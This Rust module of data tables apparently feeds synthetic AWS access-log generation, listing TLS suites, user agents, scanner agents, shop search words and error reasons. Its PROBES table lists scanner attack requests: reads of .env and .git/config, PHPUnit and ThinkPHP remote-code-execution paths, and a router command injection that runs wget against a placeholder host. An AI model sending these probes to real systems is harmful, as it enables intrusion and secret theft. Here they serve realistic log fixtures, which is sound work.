//! Text that clients send or that AWS answers: user agents, attacks, TLS suites, reasons. Tables only.

/// A cipher suite with its TLS version and the key exchange that goes with it.
pub(super) struct Suite {
    pub(super) cipher: &'static str,
    pub(super) protocol: &'static str,
    pub(super) key_exchange: &'static str,
}

/// Suites, the usual ones more often.
pub(super) const SUITES: &[Suite] = &[
    Suite { cipher: "TLS_AES_128_GCM_SHA256", protocol: "TLSv1.3", key_exchange: "x25519" },
    Suite { cipher: "TLS_AES_128_GCM_SHA256", protocol: "TLSv1.3", key_exchange: "X25519MLKEM768" },
    Suite { cipher: "TLS_AES_128_GCM_SHA256", protocol: "TLSv1.3", key_exchange: "secp256r1" },
    Suite { cipher: "TLS_AES_256_GCM_SHA384", protocol: "TLSv1.3", key_exchange: "SecP256r1MLKEM768" },
    Suite { cipher: "ECDHE-RSA-AES128-GCM-SHA256", protocol: "TLSv1.2", key_exchange: "secp256r1" },
    Suite { cipher: "ECDHE-RSA-AES128-GCM-SHA256", protocol: "TLSv1.2", key_exchange: "secp256r1" },
    Suite { cipher: "ECDHE-RSA-AES256-GCM-SHA384", protocol: "TLSv1.2", key_exchange: "secp384r1" },
];

pub(super) const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (Linux; Android 16; SM-S936B Build/BP2A.250605.031; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.102 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/537.0.0.44.109;]",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/392.0.821 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 OPR/125.0.0.0",
];

pub(super) const APPS: &[&str] = &[
    "ExampleShop/8.14.2 (com.example.shop; build:81402; iOS 26.1.0) Alamofire/5.10.2",
    "ExampleShop/8.14.1 (Android 16; Pixel 9; en_GB; build:81401) okhttp/5.1.0",
    "ExampleShop/8.12.0 (Android 14; SM-A546B; de_DE; build:81200) okhttp/4.12.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 ExampleShop/8.14.2",
    "Dart/3.11 (dart:io)",
    "axios/1.12.2",
    "ExampleShop/8.14.2 (com.example.shop; build:81402; iOS 18.7.1) Alamofire/5.10.2",
    "ExampleShop/8.14.2 (Android 15; SM-S921B; fr_FR; build:81402) okhttp/5.1.0",
    "ExampleShop/8.14.2 (Android 16; Pixel 10 Pro; de_DE; build:81402) okhttp/5.1.0",
    "ExampleShop/8.13.0 (Android 13; Redmi Note 12; es_ES; build:81300) okhttp/5.1.0",
    "ExampleShop/8.9.3 (com.example.shop; build:80903; iOS 16.7.12) Alamofire/5.9.1",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
];

pub(super) const MACHINES: &[&str] =
    &["python-requests/2.32.5", "Apache-HttpClient/5.5 (Java/21.0.8)", "Go-http-client/1.1", "GuzzleHttp/7", "-"];

pub(super) const GRPC_CLIENTS: &[&str] =
    &["grpc-go/1.76.0", "grpc-java-netty/1.75.0", "grpc-python/1.76.0 grpc-c/51.0.0 (linux; chttp2)", "tonic/0.14.2"];

pub(super) const SCANNERS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.28.0",
    "curl/7.88.1",
    "Hello, world",
    "-",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
];

/// What scanners ask for.
pub(super) const PROBES: &[(&str, &str)] = &[
    ("GET", "/"),
    ("GET", "/.env"),
    ("GET", "/.git/config"),
    ("GET", "/wp-login.php"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("GET", "/solr/admin/info/system?wt=json"),
    ("GET", "/actuator/gateway/routes"),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F192.0.2.9%2Ft)",
    ),
    ("POST", "/Autodiscover/Autodiscover.xml"),
    ("GET", "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5"),
];

/// Words of search queries, categories, statuses and slugs.
pub(super) const WORDS: &[&str] = &[
    "lamp", "chair", "desk", "garden", "rug", "sofa", "shelf", "mirror", "kitchen", "outdoor", "oak", "linen",
    "teapot", "curtain", "pillow", "ceramic", "walnut", "vintage", "cable", "basket",
];

pub(super) const LAMBDA_REASONS: &[&str] =
    &["LambdaInvalidResponse", "LambdaUnhandled", "LambdaThrottling", "LambdaResponseTooLarge"];

pub(super) const LOGIN_REASONS: &[&str] = &["AuthInvalidStateParam", "AuthMissingStateParam", "AuthInvalidGrantError"];

/// HTTP/2 error codes of resets.
pub(super) const RESET_CODES: &[&str] = &["0x8", "0x7", "0x2", "0xb"];

/// Why a handshake with a client certificate fails.
pub(super) const CERTIFICATE_FAILURES: &[&str] = &[
    "Failed:ClientCertExpired",
    "Failed:ClientCertUntrusted",
    "Failed:ClientCertNotYetValid",
    "Failed:ClientCertCrlHit",
];
